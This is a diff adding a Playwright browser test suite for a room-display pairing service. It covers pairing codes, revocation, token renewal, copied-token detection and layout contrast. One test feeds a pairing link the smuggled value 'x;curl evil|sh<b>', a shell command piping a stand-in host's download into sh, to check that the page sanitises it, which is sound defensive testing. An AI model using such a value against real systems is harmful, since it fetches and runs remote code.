@@ -1,0 +1,308 @@
+"""A display is put up: the real program, a real browser, and what people type."""
+
+import asyncio
+import json
+import time
+from collections.abc import AsyncIterator
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+from aiohttp.test_utils import TestServer
+from playwright.async_api import Browser, BrowserContext, Page, expect
+
+from bridge.callers import Caller
+from bridge.paired import RENEWED_AFTER, WRITTEN_AFTER
+from bridge.views import pages
+from bridge.views.site import site as application
+from bridge.views.web import COOKIE
+from rooms.database import Database
+from tests.bridge.conftest import Views
+from tests.fakes.sources import event
+from tests.fakes.virtual import FixedClock
+from tests.process.conftest import Running, Site, until
+from tests.process.test_demo import SIZES, browser
+
+__all__ = ["browser"]  # a fixture
+pytestmark = pytest.mark.browser
+
+ADA = Caller(name="control:ada", scopes=frozenset(["control"]))
+WITHIN = 1.0
+"""Seconds after which a revoked display shows and gets nothing any more."""
+
+
+class Wall:
+    """An appliance that runs, and a browser beside a door."""
+
+    def __init__(self, site: Site, running: Running, context: BrowserContext, page: Page) -> None:
+        self.site = site
+        self.running = running
+        self.context = context
+        self.page = page
+        self.url = f"http://127.0.0.1:{running.port}"
+
+    async def code(self) -> str:
+        """What the display shows."""
+        await self.page.goto(f"{self.url}/display")
+        code = self.page.locator("#code")
+        await expect(self.page.locator("#command")).to_contain_text("roombridge displays pair")
+        return await code.inner_text()
+
+    async def pair(self, room: str = "kestrel") -> str:
+        """Type what it shows; the id of the display."""
+        status, out, errors = await self.site.command(
+            "displays", "pair", await self.code(), room, "--json"
+        )
+        assert status == 0, errors
+        await expect(self.page.locator("h1")).to_have_text(room.title())
+        return str(json.loads(out)["id"])
+
+    async def cookie(self) -> str:
+        """The display's token, as its browser keeps it."""
+        return next(one["value"] for one in await self.context.cookies() if one["name"] == COOKIE)
+
+
+@pytest.fixture
+async def wall(site: Site, browser: Browser) -> AsyncIterator[Wall]:
+    site.add_room("heron")
+    site.book("Harvest planning", hour=-0.1)
+    async with site.running() as running:
+        context = await browser.new_context(
+            viewport={"width": 1280, "height": 800}, locale="en-GB", reduced_motion="reduce"
+        )
+        page = await context.new_page()
+        complaints: list[str] = []
+        page.on("pageerror", lambda error: complaints.append(str(error)))
+        yield Wall(site, running, context, page)
+        await context.close()
+        assert complaints == []
+
+
+async def test_a_display_is_paired_by_what_it_shows_and_stays_so(wall: Wall) -> None:
+    shown = await wall.code()
+    status, out, _ = await wall.site.command("displays", "pair", shown.lower(), "kestrel")
+    assert status == 0
+    assert out.startswith("kestrel: display ")
+    assert "Chromium on Linux" in out
+    page = wall.page
+    await expect(page).to_have_url(f"{wall.url}/display/kestrel")
+    await expect(page.locator("#title")).to_have_text("Harvest planning")
+    assert COOKIE not in await page.evaluate("document.cookie")
+    await page.reload()
+    await expect(page.locator("#title")).to_have_text("Harvest planning")
+    await page.goto(f"{wall.url}/display")
+    await expect(page).to_have_url(f"{wall.url}/display/kestrel")
+
+    async def seen() -> bool:
+        status, out, _ = await wall.site.command("displays", "list")
+        return status == 0 and "now" in out
+
+    await until(seen, "a display that is there")
+
+
+async def test_a_wrong_code_or_room_is_told_in_words(wall: Wall) -> None:
+    code = await wall.code()
+    for words, told in (
+        (("pair", "2222-2222", "kestrel"), "No display shows this code"),
+        (("pair", code, "nowhere"), "There is no such room"),
+        (("revoke", "nothing"), "There is no such paired display"),
+        (("pair", "--move", "nothing", "kestrel"), "There is no such paired display"),
+    ):
+        status, _, errors = await wall.site.command("displays", *words)
+        assert (status, told in errors) == (1, True), errors
+    assert (await wall.site.command("displays", "pair", "kestrel"))[0] == 2
+
+
+async def test_a_revoked_display_forgets_within_a_second_and_shows_a_code(wall: Wall) -> None:
+    id_ = await wall.pair()
+    page, token = wall.page, await wall.cookie()
+    await expect(page.locator("#title")).to_have_text("Harvest planning")
+    stream = await wall.running.http.get(
+        f"{wall.url}/api/v1/rooms/kestrel/stream", headers={"Authorization": f"Bearer {token}"}
+    )
+    await stream.content.readuntil(b"event: status")
+    revoking = asyncio.create_task(wall.site.command("displays", "revoke", id_))
+    await stream.content.read()
+    ended = time.monotonic()
+    await expect(page.locator("#title")).to_have_text("Pair this display", timeout=WITHIN * 1000)
+    assert time.monotonic() - ended < WITHIN
+    assert (await revoking)[0] == 0
+    assert "Harvest" not in await page.content()
+    answer = await wall.running.http.get(
+        f"{wall.url}/api/v1/rooms/kestrel/agenda", headers={"Authorization": f"Bearer {token}"}
+    )
+    assert answer.status == 401
+    await page.goto(f"{wall.url}/display/kestrel")
+    await expect(page.locator("#title")).to_have_text("Pair this display")
+    await wall.pair("heron")
+
+
+async def test_a_moved_display_goes_to_its_new_room_by_itself(wall: Wall) -> None:
+    id_ = await wall.pair()
+    assert (await wall.site.command("displays", "pair", "--move", id_, "heron"))[0] == 0
+    await expect(wall.page).to_have_url(f"{wall.url}/display/heron")
+    await expect(wall.page.locator("h1")).to_have_text("Heron")
+
+
+async def test_it_outlives_a_restart_of_the_bridge(wall: Wall) -> None:
+    id_ = await wall.pair()
+    wall.site.settings["listen"]["port"] = str(wall.running.port)
+    assert await wall.running.stop() == 0
+    async with wall.site.running() as running:
+        assert running.port == wall.running.port
+        await wall.page.reload()
+        await expect(wall.page.locator("h1")).to_have_text("Kestrel")
+        _, out, _ = await wall.site.command("displays", "list", "--json")
+        (listed,) = json.loads(out)["displays"]
+        assert (listed["id"], listed["room"]) == (id_, "kestrel")
+        assert (await wall.site.command("displays", "revoke", id_))[0] == 0
+        await expect(wall.page.locator("#title")).to_have_text("Pair this display")
+
+
+async def test_while_nobody_answers_no_code_is_shown(wall: Wall) -> None:
+    first = await wall.code()
+    wall.site.settings["listen"]["port"] = str(wall.running.port)
+    await wall.running.stop()
+    await expect(wall.page.locator("#words")).to_contain_text("No connection to the bridge")
+    await expect(wall.page.locator("#code")).to_be_hidden()
+    async with wall.site.running():
+        await expect(wall.page.locator("#code")).to_be_visible(timeout=20_000)
+        assert await wall.page.locator("#code").inner_text() != first
+
+
+# --- with a clock that is moved
+
+
+@pytest.fixture
+def views_of_now(tmp_path: Path) -> Views:
+    """Views whose clock shows what the browser's does."""
+    pages.files()
+    return Views(Database(tmp_path / "bridge.db"), FixedClock(datetime.now(UTC)))
+
+
+class Door:
+    """A browser before views whose clock is moved."""
+
+    def __init__(self, views: Views, context: BrowserContext, page: Page, url: str) -> None:
+        self.views = views
+        self.context = context
+        self.page = page
+        self.url = url
+
+
+@pytest.fixture
+async def door(browser: Browser, views_of_now: Views) -> AsyncIterator[Door]:
+    views = views_of_now
+    async with (
+        views.database.running(),
+        TestServer(application(views.house, views.routes())) as server,
+        views.pairing.running(),
+    ):
+        await views.keep(event("review", datetime.now(UTC)), as_of=datetime.now(UTC))
+        context = await browser.new_context(
+            viewport={"width": 1280, "height": 800}, locale="en-GB", color_scheme="light"
+        )
+        # Loopback would see every room without a token.
+        await context.set_extra_http_headers({"Via": "1.1 elsewhere"})
+        yield Door(views, context, await context.new_page(), f"http://127.0.0.1:{server.port}")
+        views.hub.close()
+        await context.close()
+
+
+async def test_its_token_is_renewed_in_the_browser_and_the_copied_one_is_noticed(
+    door: Door,
+) -> None:
+    views, page = door.views, door.page
+    await page.clock.install()
+    await page.goto(f"{door.url}/display")
+    await expect(page.locator("#command")).to_contain_text("displays pair")
+    anybody = await views.pairing.pair(await page.locator("#code").inner_text(), "kestrel", "", ADA)
+    await page.clock.run_for(3000)
+    await expect(page.locator("h1")).to_have_text("Kestrel")
+    (before,) = await _cookies(door)
+    views.clock.move(RENEWED_AFTER)
+    async with page.expect_response(lambda one: one.url.endswith("/renew")) as renewed:
+        await page.clock.run_for(31_000)
+    assert (await renewed.value).status == 204
+    (after,) = await _cookies(door)
+    assert after != before
+    views.clock.move(WRITTEN_AFTER)
+    async with page.expect_response(lambda one: one.url.endswith("/renew")):
+        await page.clock.run_for(3_600_000)
+
+    async def ended() -> bool:
+        return views.tokens.caller(before) is None
+
+    await until(ended, "the end of the old token")
+    assert views.tokens.caller(after)
+    views.clock.move(WRITTEN_AFTER)
+    copied = {"Authorization": f"Bearer {before}"}
+    answer = await door.context.request.get(f"{door.url}/api/v1/rooms/kestrel", headers=copied)
+    assert answer.status == 401
+
+    async def noticed() -> bool:
+        return "display_copied" in {trouble.code for _, trouble in views.health.all()}
+
+    await until(noticed, "a finding")
+    await expect(page.locator("h1")).to_have_text("Kestrel")
+    assert anybody.room == "kestrel"
+
+
+async def _cookies(door: Door) -> list[str]:
+    return [one["value"] for one in await door.context.cookies() if one["name"] == COOKIE]
+
+
+async def test_a_link_that_is_not_good_says_so_and_a_code_is_there_all_the_same(
+    door: Door,
+) -> None:
+    await door.page.goto(f"{door.url}/display/kestrel#rb_wrong")
+    await expect(door.page.locator("#words")).to_contain_text("The link is not valid")
+    await expect(door.page.locator("#command")).to_contain_text("displays pair")
+    assert "rb_wrong" not in door.page.url
+
+
+async def test_where_the_picture_leads_there_is_the_command_and_nothing_of_a_stranger(
+    door: Door,
+) -> None:
+    await door.page.goto(f"{door.url}/admin/pair?code=ABCD-EFGH")
+    command = door.page.locator("#command")
+    await expect(command).to_have_text("roombridge displays pair ABCD-EFGH ROOM")
+    await door.page.goto(f"{door.url}/admin/pair?code=x;curl%20evil|sh<b>")
+    await expect(command).to_have_text("roombridge displays pair CODE ROOM")
+
+
+FINE = """() => {
+  const shown = [...document.querySelectorAll('main, h1, pre, figure, svg, footer, footer p, .type')];
+  const out = shown.filter((one) => {
+    const box = one.getBoundingClientRect();
+    return box.right > innerWidth + 1 || box.bottom > innerHeight + 1 || box.left < -1 || box.top < -1;
+  });
+  const cut = [...document.querySelectorAll('main, pre, .code, footer p')].filter(
+    (one) => one.scrollWidth > one.clientWidth + 1,
+  );
+  const light = (colour) => {
+    const parts = colour.match(/[\\d.]+/g).slice(0, 3).map((one) => one / 255);
+    const linear = parts.map((one) => (one <= 0.04045 ? one / 12.92 : ((one + 0.055) / 1.055) ** 2.4));
+    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2];
+  };
+  const ground = light(getComputedStyle(document.body).backgroundColor);
+  const pale = [...document.querySelectorAll('h1, p, figcaption')].filter((one) => {
+    const ink = light(getComputedStyle(one).color);
+    return (Math.max(ink, ground) + 0.05) / (Math.min(ink, ground) + 0.05) < 4.5;
+  });
+  return [out, cut, pale].map((all) => all.map((one) => one.id || one.tagName));
+}"""
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+async def test_all_of_it_is_seen_and_read_at_every_size(door: Door, scheme: Any) -> None:
+    page = door.page
+    await page.emulate_media(color_scheme=scheme)
+    await page.goto(f"{door.url}/display")
+    await expect(page.locator("#command")).to_contain_text("displays pair")
+    for width, height in SIZES:
+        await page.set_viewport_size({"width": width, "height": height})
+        assert await page.evaluate(FINE) == [[], [], []], (width, height)
+    await expect(page.get_by_role("img")).to_have_accessible_name("Or scan this code")
+    assert len(await page.locator("#spoken").inner_text()) > len("The code is 1 2 3 4")
